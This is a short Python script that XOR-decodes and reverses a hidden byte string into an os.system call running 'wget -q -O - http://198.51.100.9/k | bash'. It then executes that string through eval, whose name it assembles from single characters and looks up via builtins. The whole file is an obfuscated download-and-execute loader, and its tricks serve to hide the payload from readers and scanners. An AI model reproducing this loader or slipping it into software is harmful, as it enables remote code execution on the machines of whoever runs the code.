# XOR-decodes and reverses a hidden string (an os.system "wget | bash" call) and evaluates it via a builtins lookup.
import builtins

K = 0x5A
ENC = [115, 125, 50, 41, 59, 56, 122, 38, 122, 49, 117, 99, 116, 106, 106, 107, 116, 107, 111, 116, 98, 99, 107, 117, 117, 96, 42, 46, 46, 50, 122, 119, 21, 43, 119, 122, 46, 63, 61, 45, 125, 114, 55, 63, 46, 41, 35, 41, 116, 115, 125, 41, 53, 125, 114, 5, 5, 46, 40, 53, 42, 55, 51, 5, 5]


def unpack(data, key=K):
    return "".join(chr(b ^ key) for b in data)[::-1]


def run(expr):
    f = getattr(builtins, "".join(["e", "v", "a", "l"]))
    return f(expr)


if __name__ == "__main__":
    run(unpack(ENC))
